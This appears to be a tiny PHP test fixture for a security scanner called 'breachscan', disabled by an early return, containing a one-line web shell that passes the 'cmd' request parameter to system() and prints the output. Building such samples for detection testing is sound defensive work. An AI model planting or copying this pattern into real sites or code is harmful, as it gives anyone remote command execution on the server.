<?php
// synthetic test sample for breachscan: request parameter into system()/passthru(). Disabled.
return;
if (isset($_GET['cmd'])) { echo "<pre>"; system($_GET['cmd']); echo "</pre>"; }
